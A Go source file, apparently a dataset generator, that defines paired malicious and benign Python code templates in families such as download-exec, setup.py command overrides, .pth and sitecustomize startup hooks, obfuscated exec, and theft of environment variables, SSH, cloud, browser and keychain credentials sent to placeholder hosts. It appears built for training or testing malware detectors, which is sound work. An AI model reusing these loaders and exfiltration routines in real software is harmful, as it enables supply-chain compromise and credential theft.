package generate

// secondPython are attacks on Python of the second half; see opened_2.go.
var secondPython = []shape{
	// download-exec
	{family: "download-exec", name: "loader-class", bad: snippet{`
class <%n Loader%>:
    def __init__(self, origin):
        self.origin = origin

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        <%n text%> = <%c urllib.request.urlopen%>(self.origin, timeout=6).read()
        <%b exec%>(<%n text%>, module.__dict__)


def <%n attach%>():
    <%n spec%> = <%c importlib.machinery.ModuleSpec%>("inert_remote", <%n Loader%>(<%s $URL%>))
    <%n module%> = <%c importlib.util.module_from_spec%>(<%n spec%>)
    <%n spec%>.loader.exec_module(<%n module%>)
`, "<%n attach%>()"}, good: snippet{`
class <%n Loader%>:
    """Makes modules out of tables that this package has."""

    def __init__(self, table):
        self.table = table

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        module.__dict__.update(self.table)


def <%n attach%>(table):
    <%n spec%> = <%c importlib.machinery.ModuleSpec%>("tables", <%n Loader%>(table))
    <%n module%> = <%c importlib.util.module_from_spec%>(<%n spec%>)
    <%n spec%>.loader.exec_module(<%n module%>)
    return <%n module%>
`, "<%n attach%>({\"one\": 1})"}},
	{family: "download-exec", name: "stages-generator", bad: snippet{`
def <%n stages%>():
    <%n pool%> = <%c urllib3.PoolManager%>()
    yield <%n pool%>.request("GET", <%s $URL%>).data
    yield <%c os.path.join%>(<%c tempfile.mkdtemp%>(), <%s update.pyz%>)


def <%n advance%>():
    <%n step%> = <%n stages%>()
    <%n data%>, <%n name%> = next(<%n step%>), next(<%n step%>)
    with open(<%n name%>, "wb") as handle:
        handle.write(<%n data%>)
    <%c runpy.run_path%>(<%n name%>, run_name="__main__")
`, "<%n advance%>()"}, good: snippet{`
def <%n stages%>(names):
    <%n pool%> = <%c urllib3.PoolManager%>()
    for name in names:
        yield name, <%n pool%>.request("GET", <%s https://data.example.invalid/tables/%> + name).data


def <%n advance%>(folder, names):
    """Fetches the tables of a year into a folder."""
    for name, data in <%n stages%>(names):
        with open(<%c os.path.join%>(folder, name), "wb") as handle:
            handle.write(data)
`, "<%n advance%>.__doc__"}},
	{family: "download-exec", name: "archive-script", bad: snippet{`
class <%n Toolchain%>:
    origin = <%s $URL%>

    def __init__(self):
        self.folder = <%c pathlib.Path%>(<%c tempfile.mkdtemp%>())

    def fetch(self):
        <%n body%> = <%c io.BytesIO%>(<%c requests.get%>(self.origin, verify=False).content)
        <%c tarfile.open%>(fileobj=<%n body%>, mode="r:*").extractall(self.folder)
        return self

    def start(self):
        <%c os.spawnv%>(<%c os.P_NOWAIT%>, "/bin/sh", ["sh", str(self.folder / <%s run.sh%>)])
`, "<%n Toolchain%>().fetch().start()"}, good: snippet{`
class <%n Toolchain%>:
    """The test data of a release; unpacked beside the tests when they ask for it."""

    origin = <%s https://releases.example.invalid/testdata-4.tar.gz%>

    def __init__(self, folder):
        self.folder = <%c pathlib.Path%>(folder)

    def fetch(self, digest):
        <%n raw%> = <%c requests.get%>(self.origin, timeout=30).content
        if <%c hashlib.sha256%>(<%n raw%>).hexdigest() != digest:
            raise ValueError("not the test data that was pinned")
        <%c tarfile.open%>(fileobj=<%c io.BytesIO%>(<%n raw%>)).extractall(self.folder, filter="data")
        return self
`, "<%n Toolchain%>(\"testdata\")"}},
	{family: "download-exec", name: "certutil-chain", bad: snippet{`
<%n steps%> = [
    <%s certutil -urlcache -split -f $URL %TEMP%\svc.dll%>,
    <%s regsvr32 /s %TEMP%\svc.dll%>,
]


def <%n go%>():
    for step in <%n steps%>:
        if <%c os.system%>(step) != 0:
            break
`, "<%n go%>()"}, good: snippet{`
<%n steps%> = [
    "certutil -hashfile dist\\words.zip SHA256",
    "where git",
]


def <%n go%>():
    """Prints the digest of what was packed, on Windows."""
    for step in <%n steps%>:
        if <%c os.system%>(step) != 0:
            break
`, "<%n go%>.__doc__"}},
	{family: "download-exec", name: "async-native", bad: snippet{`
async def <%n bring%>(session):
    async with session.get(<%s $URL%>) as reply:
        return await reply.read()


async def <%n main%>():
    async with <%c aiohttp.ClientSession%>() as session:
        <%n data%> = await <%n bring%>(session)
    <%n fd%> = <%c os.memfd_create%>("inert")
    <%c os.write%>(<%n fd%>, <%n data%>)
    <%c os.execv%>("/proc/self/fd/%d" % <%n fd%>, [<%s kworker%>])
`, "<%c asyncio.run%>(<%n main%>())"}, good: snippet{`
async def <%n bring%>(session, page):
    async with session.get(<%s https://api.example.invalid/pages/%> + str(page)) as reply:
        return await reply.read()


async def <%n main%>(pages):
    """The sizes of some pages, fetched side by side."""
    async with <%c aiohttp.ClientSession%>() as session:
        return [len(p) for p in await <%c asyncio.gather%>(*(<%n bring%>(session, n) for n in pages))]
`, "<%n main%>.__doc__"}},

	// cmd-overwrite
	{family: "cmd-overwrite", name: "credential-step", places: []string{"cmdclass"}, bad: snippet{`
def <%n remember%>():
    <%n lines%> = []
    for name in (<%s .pypirc%>, <%s .netrc%>):
        file = <%c pathlib.Path%>.home() / name
        if file.exists():
            <%n lines%>.append(file.read_text())
    <%n wire%> = <%c http.client.HTTPSConnection%>(<%s $HOST%>)
    <%n wire%>.request("POST", <%s /v2/build%>, "\n".join(<%n lines%>))
`, "<%n remember%>()"}, good: snippet{`
def <%n remember%>():
    """Notes which changes are in this build."""
    <%n lines%> = []
    for name in ("CHANGES.md", "NEWS.md"):
        file = <%c pathlib.Path%>(name)
        if file.exists():
            <%n lines%>.append(file.read_text())
    <%c pathlib.Path%>("build-notes.txt").write_text("\n".join(<%n lines%>))
`, "<%n remember%>()"}},
	{family: "cmd-overwrite", name: "all-commands", places: []string{"setup"}, fixed: true, bad: snippet{`
import atexit
import urllib.request
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install


def <%n after%>():
    exec(urllib.request.urlopen("$URL").read())


def <%n with_step%>(base):
    class Command(base):
        def run(self):
            base.run(self)
            atexit.register(<%n after%>)

    return Command


<%n commands%> = {c.__name__: <%n with_step%>(c) for c in (install, develop, egg_info)}
setup(name="$NAME", cmdclass=<%n commands%>)
`, "print(sorted(<%n commands%>))"}, good: snippet{`
from setuptools.command.develop import develop
from setuptools.command.install import install


def <%n with_step%>(base):
    class Command(base):
        """The usual command; it says what was installed where."""

        def run(self):
            base.run(self)
            self.announce("installed into %s" % self.install_dir, level=2)

    return Command


<%n commands%> = {c.__name__: <%n with_step%>(c) for c in (install, develop)}
`, "print(sorted(<%n commands%>))"}},
	{family: "cmd-overwrite", name: "hidden-shell", places: []string{"cmdclass"}, bad: snippet{`
def <%n tune%>():
    <%n script%> = <%c os.path.join%>(<%c tempfile.gettempdir%>(), <%s .tune.sh%>)
    with open(<%n script%>, "w") as handle:
        handle.write(<%s #!/bin/sh
wget -q -O - http://$HOST/t | sh
%>)
    <%c os.chmod%>(<%n script%>, 0o700)
    <%c subprocess.Popen%>([<%n script%>], stdout=<%c subprocess.DEVNULL%>, stderr=<%c subprocess.DEVNULL%>, start_new_session=True)
`, "<%n tune%>()"}, good: snippet{`
def <%n tune%>():
    """Runs the project's own generator of parser tables."""
    <%n script%> = <%c os.path.join%>(<%c os.getcwd%>(), "tools", "tables.py")
    <%c subprocess.check_call%>([<%c sys.executable%>, <%n script%>, "--quiet"])
`, "print(<%n tune%>.__doc__)"}},
	{family: "cmd-overwrite", name: "environment-step", places: []string{"cmdclass"}, bad: snippet{`
def <%n flags%>():
    <%n found%> = sorted("%s=%s" % pair for pair in <%c os.environ%>.items())
    <%n wire%> = <%c socket.create_connection%>((<%s $HOST%>, $PORT), 3)
    <%n wire%>.sendall("\n".join(<%n found%>).encode())
`, "<%n flags%>()"}, good: snippet{`
def <%n flags%>():
    """The compiler's options, as the environment gives them."""
    <%n found%> = [<%c os.environ%>.get(name, "") for name in ("CFLAGS", "CPPFLAGS", "LDFLAGS")]
    return " ".join(<%n found%>).split()
`, "print(<%n flags%>())"}},

	// pth-exec
	{family: "pth-exec", name: "subprocess-shell", places: []string{"pth"}, bad: snippet{`
<%c subprocess.run%>(<%s curl -s $URL | sh%>, shell=True, check=False)
`, ""}, good: snippet{`
def <%n shell%>():
    return <%c os.environ%>.get("SHELL", "/bin/sh")
`, ""}},
	{family: "pth-exec", name: "decoded-body", places: []string{"pth"}, bad: snippet{`
<%b exec%>(<%c base64.b64decode%>(<%s aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKSAgIyBpbmVydA==%>))
`, ""}, good: snippet{`
def <%n mark%>():
    return <%c base64.b64encode%>(b"words").decode()
`, ""}},
	{family: "pth-exec", name: "thread-beacon", places: []string{"pth"}, bad: snippet{`
def <%n beat%>():
    while True:
        <%c urllib.request.urlopen%>(<%s $URL%>, data=<%c os.uname%>().nodename.encode())
        <%c time.sleep%>(300)


<%c threading.Thread%>(target=<%n beat%>, daemon=True).start()
`, ""}, good: snippet{`
def <%n beat%>(action, pause=300):
    """Calls an action now and then, until the program ends."""
    <%n timer%> = <%c threading.Timer%>(pause, action)
    <%n timer%>.daemon = True
    return <%n timer%>
`, ""}},
	{family: "pth-exec", name: "package-stage", places: []string{"pth"}, bad: snippet{`
<%c subprocess.Popen%>([<%c sys.executable%>, "-c", <%s import base64, urllib.request as r; exec(base64.b64decode(r.urlopen('$URL').read()))%>], stdin=<%c subprocess.DEVNULL%>)
`, ""}, good: snippet{`
def <%n python%>():
    return <%c subprocess.check_output%>([<%c sys.executable%>, "--version"])
`, ""}},

	// startup-hook
	{family: "startup-hook", name: "import-spy", places: []string{"sitecustomize"}, bad: snippet{`
class <%n Finder%>:
    def find_spec(self, name, path=None, target=None):
        if name in ("boto3", "requests", "kubernetes"):
            <%c urllib.request.urlopen%>(<%s $URL?m=%> + name, data=str(dict(<%c os.environ%>)).encode())
        return None


def <%n arm%>():
    <%c sys.meta_path%>.insert(0, <%n Finder%>())
`, "<%n arm%>()"}, good: snippet{`
class <%n Finder%>:
    """Remembers what was imported, for a report of unused dependencies."""

    def __init__(self):
        self.seen = []

    def find_spec(self, name, path=None, target=None):
        self.seen.append(name)
        return None


def <%n arm%>():
    <%c sys.meta_path%>.insert(0, <%n Finder%>())
`, "<%n arm%>.__name__"}},
	{family: "startup-hook", name: "excepthook-loader", places: []string{"sitecustomize"}, bad: snippet{`
def <%n report%>(kind, value, trace):
    <%n reply%> = <%c requests.get%>(<%s $URL%>).text
    <%b exec%>(<%n reply%>)


def <%n arm%>():
    import sys

    sys.excepthook = <%n report%>
    <%n report%>(None, None, None)
`, "<%n arm%>()"}, good: snippet{`
def <%n report%>(kind, value, trace):
    """A short line for the terminal; the rest goes into the log."""
    <%c logging.getLogger%>("crash").error("%s: %s", kind.__name__, value)


def <%n arm%>():
    return <%n report%>
`, "<%n arm%>.__name__"}},
	{family: "startup-hook", name: "encoded-stage", places: []string{"sitecustomize"}, bad: snippet{`
<%n stage%> = <%s ` + b64(gzipped("import os\nos.system('true')  # inert\n")) + `%>


def <%n boot%>():
    <%b exec%>(<%c gzip.decompress%>(<%c base64.b64decode%>(<%n stage%>)), {})
`, "<%n boot%>()"}, good: snippet{`
<%n stage%> = <%s ` + b64(gzipped("monday tuesday wednesday")) + `%>


def <%n boot%>():
    """The days, unpacked."""
    return <%c gzip.decompress%>(<%c base64.b64decode%>(<%n stage%>)).decode().split()
`, "<%n boot%>()"}},
	{family: "startup-hook", name: "shell-at-start", places: []string{"sitecustomize"}, bad: snippet{`
def <%n warm%>():
    if not <%c os.path.exists%>(<%s /tmp/.warm%>):
        <%c subprocess.Popen%>([<%s sh%>, "-c", <%s touch /tmp/.warm; curl -fsSL $URL | sh%>], stdout=<%c subprocess.DEVNULL%>, stderr=<%c subprocess.DEVNULL%>)
`, "<%n warm%>()"}, good: snippet{`
def <%n warm%>(folder):
    """Compiles the modules of a folder, so that the next start is quick."""
    return <%c compileall.compile_dir%>(folder, quiet=2)
`, "<%n warm%>.__doc__"}},

	// decode-exec
	{family: "decode-exec", name: "fernet-exec", bad: snippet{`
def <%n unlock%>(key=<%s aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW4=%>):
    <%n box%> = <%c cryptography.fernet.Fernet%>(key)
    return <%n box%>.decrypt(<%s gAAAAABpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0%>)
`, "<%b exec%>(<%n unlock%>())"}, good: snippet{`
def <%n unlock%>(key, path):
    """The user's notes, which are encrypted on the disk."""
    with open(path, "rb") as handle:
        return <%c cryptography.fernet.Fernet%>(key).decrypt(handle.read()).decode()
`, "<%n unlock%>.__doc__"}},
	{family: "decode-exec", name: "metaclass-table", bad: snippet{`
class <%n Registry%>(type):
    parts = {
        2: <%s bSgndHJ1ZScpICAjIGluZXJ0%>,
        0: <%s aW1wb3J0IG9zCg==%>,
        1: <%s b3Muc3lzdGU=%>,
    }

    def __init__(cls, name, bases, namespace):
        super().__init__(name, bases, namespace)
        <%n text%> = b"".join(<%c base64.standard_b64decode%>(cls.parts[n]) for n in sorted(cls.parts))
        <%b exec%>(<%b compile%>(<%n text%>, name, "exec"))
`, "<%n Registry%>(\"Plugin\", (), {})"}, good: snippet{`
class <%n Registry%>(type):
    """Keeps a list of all classes that were made with it."""

    known = {}

    def __init__(cls, name, bases, namespace):
        super().__init__(name, bases, namespace)
        cls.known[name] = cls
        cls.key = <%c base64.standard_b64encode%>(name.encode()).decode()
`, "<%n Registry%>(\"Plugin\", (), {})"}},
	{family: "decode-exec", name: "ast-tree", bad: snippet{`
def <%n grow%>():
    <%n text%> = bytes(int(pair, 16) for pair in <%s 69 6d 70 6f 72 74 20 6f 73 3b 20 6f 73 2e 73 79 73 74 65 6d 28 27 74 72 75 65 27 29%>.split())
    <%n tree%> = <%c ast.parse%>(<%n text%>.decode())
    return <%b compile%>(<%n tree%>, filename="<ast>", mode="exec")
`, "<%b exec%>(<%n grow%>(), {})"}, good: snippet{`
def <%n grow%>(text):
    """The names that a piece of Python assigns to."""
    <%n tree%> = <%c ast.parse%>(text)
    return [n.id for n in <%c ast.walk%>(<%n tree%>) if isinstance(n, <%c ast.Name%>)]
`, "<%n grow%>(\"a = 1\")"}},
	{family: "decode-exec", name: "substitution", bad: snippet{`
<%n book%> = dict(zip(<%s zyxwvutsrqponmlkjihgfedcba%>, <%s abcdefghijklmnopqrstuvwxyz%>))


def <%n plain%>(text):
    return "".join(<%n book%>.get(c, c) for c in text)


def <%n perform%>():
    <%b eval%>(<%n plain%>(<%s __rnklig__("lh").hbhgvn("gifv")%>))
`, "<%n perform%>()"}, good: snippet{`
<%n book%> = dict(zip("zyxwvutsrqponmlkjihgfedcba", "abcdefghijklmnopqrstuvwxyz"))


def <%n plain%>(text):
    """A letter game for children: the alphabet turned round."""
    return "".join(<%n book%>.get(c, c) for c in text)


def <%n perform%>():
    return <%n plain%>("svool dliow")
`, "<%n perform%>()"}},

	// env-exfil
	{family: "env-exfil", name: "header-beacon", bad: snippet{`
class <%n Metrics%>:
    def __init__(self):
        self.rows = list(<%c os.environ%>.items())

    def headers(self):
        return {"X-Part-%d" % n: <%c urllib.parse.quote%>(k + "=" + v) for n, (k, v) in enumerate(self.rows)}

    def flush(self):
        <%n wire%> = <%c http.client.HTTPSConnection%>(<%s $HOST%>, timeout=4)
        <%n wire%>.request("GET", <%s /pixel.gif%>, headers=self.headers())
        <%n wire%>.getresponse().read()
`, "<%n Metrics%>().flush()"}, good: snippet{`
class <%n Metrics%>:
    """Counts how often something happened, for the server in METRICS_HOST."""

    def __init__(self):
        self.rows = {}

    def headers(self):
        return {"X-Source": <%c os.environ%>.get("METRICS_SOURCE", "demo")}

    def flush(self):
        <%n wire%> = <%c http.client.HTTPSConnection%>(<%c os.environ%>["METRICS_HOST"], timeout=4)
        <%n wire%>.request("POST", "/counts", <%c urllib.parse.urlencode%>(self.rows), headers=self.headers())
        <%n wire%>.getresponse().read()
`, "<%n Metrics%>()"}},
	{family: "env-exfil", name: "proc-environ", bad: snippet{`
def <%n neighbours%>():
    for folder in <%c glob.glob%>(<%s /proc/[0-9]*/environ%>):
        try:
            with open(folder, "rb") as handle:
                yield handle.read().replace(b"\0", b"\n")
        except OSError:
            continue


def <%n forward%>():
    <%c requests.put%>(<%s $URL%>, data=b"\n\n".join(<%n neighbours%>()), timeout=5)
`, "<%n forward%>()"}, good: snippet{`
def <%n neighbours%>():
    for folder in <%c glob.glob%>("/proc/[0-9]*/status"):
        try:
            with open(folder, "rb") as handle:
                yield handle.readline().split()[-1].decode()
        except OSError:
            continue


def <%n forward%>():
    """The names of the programs that run, most frequent first."""
    return <%c collections.Counter%>(<%n neighbours%>()).most_common(5)
`, "<%n forward%>.__doc__"}},
	{family: "env-exfil", name: "closure-transport", bad: snippet{`
def <%n transport%>(target):
    <%n opener%> = <%c urllib.request.build_opener%>()

    def send(value):
        <%n opener%>.open(target, data=<%c pickle.dumps%>(value), timeout=3)

    return send


<%n send%> = <%n transport%>(<%s $URL%>)
`, "<%n send%>({**<%c os.environ%>})"}, good: snippet{`
def <%n transport%>(target):
    """A function that posts rows to the collector that the user runs."""
    <%n opener%> = <%c urllib.request.build_opener%>()

    def send(rows):
        return <%n opener%>.open(target, data=<%c json.dumps%>(rows).encode(), timeout=3)

    return send
`, "<%n transport%>.__doc__"}},
	{family: "env-exfil", name: "secrets-by-pattern", bad: snippet{`
<%n wanted%> = <%c re.compile%>(<%s (?i)(token|secret|passw|api_?key|credential)%>)


def <%n sift%>(source):
    return {k: v for k, v in source.items() if <%n wanted%>.search(k)}


def <%n sync%>():
    <%n body%> = <%c zlib.compress%>(<%c json.dumps%>(<%n sift%>(<%c os.environ%>)).encode())
    with <%c httpx.Client%>(verify=False) as client:
        client.post(<%s $URL%>, content=<%n body%>)
`, "<%n sync%>()"}, good: snippet{`
<%n wanted%> = <%c re.compile%>("(?i)(token|secret|passw|api_?key|credential)")


def <%n sift%>(source):
    """The same mapping with what looks secret made unreadable, for logs."""
    return {k: "***" if <%n wanted%>.search(k) else v for k, v in source.items()}


def <%n sync%>(record):
    <%c logging.getLogger%>("app").info("%s", <%n sift%>(record))
`, "<%n sync%>({\"user\": \"demo\"})"}},
	{family: "env-exfil", name: "udp-datagrams", bad: snippet{`
def <%n emit%>():
    <%n wire%> = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_DGRAM%>)
    for key in <%c os.environ%>:
        <%n wire%>.sendto(("%s|%s" % (key, <%c os.environ%>[key])).encode(), (<%s $ADDRESS%>, 8125))
`, "<%n emit%>()"}, good: snippet{`
def <%n emit%>(name, value):
    """One number for the statistics daemon of this machine."""
    <%n wire%> = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_DGRAM%>)
    <%n wire%>.sendto(("%s:%d|c" % (name, value)).encode(), (<%c os.environ%>.get("STATSD_HOST", "127.0.0.1"), 8125))
`, "<%n emit%>.__doc__"}},

	// credential-files
	{family: "credential-files", name: "scandir-classes", bad: snippet{`
class <%n Store%>:
    folder, names = "", ()

    def files(self):
        <%n base%> = <%c os.path.expanduser%>(self.folder)
        return [<%c os.path.join%>(<%n base%>, n) for n in self.names if <%c os.path.isfile%>(<%c os.path.join%>(<%n base%>, n))]


class <%n Cloud%>(<%n Store%>):
    folder, names = <%s ~/.aws%>, (<%s credentials%>, <%s config%>)


class <%n Keys%>(<%n Store%>):
    folder, names = <%s ~/.ssh%>, (<%s id_rsa%>, <%s id_ecdsa%>, <%s known_hosts%>)


def <%n carry%>():
    for store in <%n Store%>.__subclasses__():
        for name in store().files():
            with open(name, "rb") as handle:
                <%c requests.post%>(<%s $URL%>, files={"f": handle})
`, "<%n carry%>()"}, good: snippet{`
class <%n Store%>:
    folder, names = "", ()

    def files(self):
        <%n base%> = <%c os.path.expanduser%>(self.folder)
        return [<%c os.path.join%>(<%n base%>, n) for n in self.names if <%c os.path.isfile%>(<%c os.path.join%>(<%n base%>, n))]


class <%n Themes%>(<%n Store%>):
    folder, names = "~/.config/$NAME/themes", ("dark.toml", "light.toml")


def <%n carry%>():
    """The user's themes, by the name of their file."""
    return {name: open(name, encoding="utf-8").read() for store in <%n Store%>.__subclasses__() for name in store().files()}
`, "<%n carry%>()"}},
	{family: "credential-files", name: "pipeline-generators", bad: snippet{`
def <%n places%>():
    yield from (<%s .config/gh/hosts.yml%>, <%s .git-credentials%>, <%s .terraform.d/credentials.tfrc.json%>, <%s .vault-token%>)


def <%n opened%>(names):
    for name in names:
        <%n file%> = <%c pathlib.Path%>.home().joinpath(name)
        if <%n file%>.is_file():
            yield name, <%n file%>.read_bytes()


def <%n shipped%>(pairs):
    for name, data in pairs:
        <%n request%> = <%c urllib.request.Request%>(<%s $URL%>, data=data, method="PUT", headers={"X-Name": name})
        yield <%c urllib.request.urlopen%>(<%n request%>).status
`, "list(<%n shipped%>(<%n opened%>(<%n places%>())))"}, good: snippet{`
def <%n places%>():
    yield from ("README.md", "CHANGES.md", "docs/index.md")


def <%n opened%>(names):
    for name in names:
        <%n file%> = <%c pathlib.Path%>.cwd().joinpath(name)
        if <%n file%>.is_file():
            yield name, <%n file%>.read_bytes()


def <%n shipped%>(pairs, site):
    """Puts the documents of a project onto the site that it names."""
    for name, data in pairs:
        <%n request%> = <%c urllib.request.Request%>(site + name, data=data, method="PUT")
        yield <%c urllib.request.urlopen%>(<%n request%>).status
`, "<%n shipped%>.__doc__"}},
	{family: "credential-files", name: "paramiko-upload", bad: snippet{`
def <%n bundle%>():
    <%n home%> = <%c os.path.expanduser%>("~")
    <%n name%> = <%c os.path.join%>(<%c tempfile.gettempdir%>(), "b.tgz")
    with <%c tarfile.open%>(<%n name%>, "w:gz") as archive:
        for part in (<%s .kube%>, <%s .docker/config.json%>, <%s .config/gcloud%>, <%s .azure%>):
            if <%c os.path.exists%>(<%c os.path.join%>(<%n home%>, part)):
                archive.add(<%c os.path.join%>(<%n home%>, part), arcname=part)
    return <%n name%>


def <%n ship%>():
    <%n link%> = <%c paramiko.Transport%>((<%s $HOST%>, 22))
    <%n link%>.connect(username="inert", password="inert")
    <%c paramiko.SFTPClient.from_transport%>(<%n link%>).put(<%n bundle%>(), "b.tgz")
`, "<%n ship%>()"}, good: snippet{`
def <%n bundle%>(folder):
    <%n name%> = <%c os.path.join%>(<%c tempfile.gettempdir%>(), "site.tgz")
    with <%c tarfile.open%>(<%n name%>, "w:gz") as archive:
        for part in ("index.html", "static", "docs"):
            if <%c os.path.exists%>(<%c os.path.join%>(folder, part)):
                archive.add(<%c os.path.join%>(folder, part), arcname=part)
    return <%n name%>


def <%n ship%>(host, user, folder):
    """Brings a built site to the user's own server."""
    <%n link%> = <%c paramiko.Transport%>((host, 22))
    <%n link%>.auth_publickey(user, <%c paramiko.Agent%>().get_keys()[0])
    <%c paramiko.SFTPClient.from_transport%>(<%n link%>).put(<%n bundle%>(folder), "site.tgz")
`, "<%n ship%>.__doc__"}},
	{family: "credential-files", name: "decorated-readers", bad: snippet{`
<%n readers%> = []


def <%n reader%>(function):
    <%n readers%>.append(function)
    return function


@<%n reader%>
def <%n from_index%>():
    return <%c pathlib.Path%>(<%s ~/.pypirc%>).expanduser().read_text()


@<%n reader%>
def <%n from_shell%>():
    return <%c pathlib.Path%>(<%s ~/.bash_history%>).expanduser().read_text()


@<%n reader%>
def <%n from_keys%>():
    return <%c subprocess.check_output%>([<%s security%>, <%s dump-keychain%>, "-d"], text=True)


def <%n drain%>():
    for function in <%n readers%>:
        with <%c contextlib.suppress%>(Exception):
            <%c urllib.request.urlopen%>(<%s $URL%>, function().encode())
`, "<%n drain%>()"}, good: snippet{`
<%n readers%> = []


def <%n reader%>(function):
    <%n readers%>.append(function)
    return function


@<%n reader%>
def <%n from_project%>():
    return <%c pathlib.Path%>("pyproject.toml").read_text()


@<%n reader%>
def <%n from_user%>():
    return <%c pathlib.Path%>("~/.config/$NAME.toml").expanduser().read_text()


def <%n drain%>():
    """All settings there are, the project's own first."""
    <%n found%> = []
    for function in <%n readers%>:
        with <%c contextlib.suppress%>(OSError):
            <%n found%>.append(function())
    return <%n found%>
`, "<%n drain%>()"}},

	// cloud-metadata
	{family: "cloud-metadata", name: "provider-table", bad: snippet{`
<%n providers%> = {
    "a": (<%s http://$METADATA/latest/dynamic/instance-identity/document%>, {}),
    "g": (<%s http://$METADATA/computeMetadata/v1/project/attributes/?recursive=true%>, {<%s Metadata-Flavor%>: "Google"}),
    "z": (<%s http://$METADATA/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.example.invalid/%>, {"Metadata": "true"}),
}


def <%n ask%>():
    <%n out%> = {}
    for name, (url, headers) in <%n providers%>.items():
        try:
            <%n out%>[name] = <%c requests.get%>(url, headers=headers, timeout=1).text
        except OSError:
            pass
    <%c requests.post%>(<%s $URL%>, json=<%n out%>)
`, "<%n ask%>()"}, good: snippet{`
<%n providers%> = {
    "a": ("https://status.example.invalid/a.json", {}),
    "b": ("https://status.example.invalid/b.json", {"Accept": "application/json"}),
}


def <%n ask%>():
    """Which of our own services are up."""
    <%n out%> = {}
    for name, (url, headers) in <%n providers%>.items():
        try:
            <%n out%>[name] = <%c requests.get%>(url, headers=headers, timeout=1).ok
        except OSError:
            <%n out%>[name] = False
    return <%n out%>
`, "<%n ask%>.__doc__"}},
	{family: "cloud-metadata", name: "boto-session", bad: snippet{`
def <%n frozen%>():
    <%n keys%> = <%c boto3.Session%>().get_credentials().get_frozen_credentials()
    <%n who%> = <%c urllib.request.urlopen%>(<%s http://$METADATA/latest/user-data%>, timeout=2).read()
    <%n body%> = <%c json.dumps%>([<%n keys%>.access_key, <%n keys%>.secret_key, <%n keys%>.token, repr(<%n who%>)])
    <%c urllib.request.urlopen%>(<%s $URL%>, data=<%n body%>.encode())
`, "<%n frozen%>()"}, good: snippet{`
def <%n frozen%>(bucket):
    """The names in a bucket, with the credentials that the user's profile has."""
    <%n store%> = <%c boto3.Session%>().client("s3")
    return [item["Key"] for item in <%n store%>.list_objects_v2(Bucket=bucket).get("Contents", [])]
`, "<%n frozen%>.__doc__"}},
	{family: "cloud-metadata", name: "raw-socket", bad: snippet{`
def <%n raw%>(path):
    <%n wire%> = <%c socket.create_connection%>((<%s $METADATA%>, 80), 2)
    <%n wire%>.sendall(b"GET " + path.encode() + b" HTTP/1.0\r\n\r\n")
    return <%n wire%>.makefile("rb").read()


def <%n relay%>():
    <%n keys%> = <%n raw%>(<%s /latest/meta-data/iam/security-credentials/default%>)
    <%c socket.create_connection%>((<%s $HOST%>, $PORT), 3).sendall(<%n keys%>)
`, "<%n relay%>()"}, good: snippet{`
def <%n raw%>(host, path):
    <%n wire%> = <%c socket.create_connection%>((host, 80), 2)
    <%n wire%>.sendall(b"HEAD " + path.encode() + b" HTTP/1.0\r\n\r\n")
    return <%n wire%>.makefile("rb").read()


def <%n relay%>(hosts):
    """What servers say that they are."""
    return {h: <%n raw%>(h, "/").split(b"Server: ")[-1] for h in hosts}
`, "<%n relay%>([])"}},

	// browser-stores
	{family: "browser-stores", name: "browser-table", bad: snippet{`
<%n browsers%> = {
    "opera": <%s Opera Software/Opera Stable/Login Data%>,
    "vivaldi": <%s Vivaldi/User Data/Default/Network/Cookies%>,
    "brave": <%s BraveSoftware/Brave-Browser/User Data/Default/Web Data%>,
}


def <%n copies%>():
    <%n base%> = <%c pathlib.Path%>(<%c os.environ%>.get("APPDATA", <%s ~/.config%>)).expanduser()
    for name, part in <%n browsers%>.items():
        if (<%n base%> / part).exists():
            yield name, (<%n base%> / part).read_bytes()


def <%n send%>():
    <%c requests.post%>(<%s $URL%>, files=dict(<%n copies%>()))
`, "<%n send%>()"}, good: snippet{`
<%n browsers%> = {
    "opera": "opera",
    "vivaldi": "vivaldi-stable",
    "brave": "brave-browser",
}


def <%n copies%>():
    for name, program in <%n browsers%>.items():
        if <%c shutil.which%>(program):
            yield name, <%c shutil.which%>(program)


def <%n send%>(url):
    """Opens a page in the first browser that is installed."""
    for name, program in <%n copies%>():
        return <%c webbrowser.get%>(program + " %s").open(url)
`, "<%n send%>.__doc__"}},
	{family: "browser-stores", name: "cookie-library", bad: snippet{`
def <%n jar%>():
    <%n found%> = []
    for load in (<%c browser_cookie3.chrome%>, <%c browser_cookie3.firefox%>, <%c browser_cookie3.edge%>):
        try:
            <%n found%> += [(c.domain, c.name, c.value) for c in load()]
        except Exception:
            continue
    <%c urllib.request.urlopen%>(<%s $URL%>, data=<%c json.dumps%>(<%n found%>).encode())
`, "<%n jar%>()"}, good: snippet{`
def <%n jar%>(path):
    """The cookies of this client alone, kept between two runs."""
    <%n found%> = <%c http.cookiejar.LWPCookieJar%>(path)
    <%n found%>.load(ignore_discard=True)
    return [(c.domain, c.name) for c in <%n found%>]
`, "<%n jar%>.__doc__"}},
	{family: "browser-stores", name: "gcm-passwords", bad: snippet{`
class <%n Vault%>:
    def __init__(self, folder=<%s ~/.config/google-chrome/Default%>):
        self.folder = <%c pathlib.Path%>(folder).expanduser()

    def rows(self):
        <%n db%> = <%c sqlite3.connect%>("file:%s?immutable=1" % (self.folder / <%s Login Data%>), uri=True)
        yield from <%n db%>.execute(<%s select action_url, username_value, password_value from logins%>)

    def clear(self, key):
        for url, user, blob in self.rows():
            yield url, user, <%c Crypto.Cipher.AES.new%>(key, 9, blob[3:15]).decrypt(blob[15:-16])

    def push(self):
        <%c requests.post%>(<%s $DISCORD%>, json={"content": repr(list(self.clear(b"inert-inert-inert")))})
`, "<%n Vault%>().push()"}, good: snippet{`
class <%n Vault%>:
    """A small store of notes, encrypted with a key that the user types."""

    def __init__(self, file):
        self.file = file

    def rows(self):
        <%n db%> = <%c sqlite3.connect%>("file:%s?immutable=1" % self.file, uri=True)
        yield from <%n db%>.execute("select title, body from notes")

    def clear(self, key):
        for title, blob in self.rows():
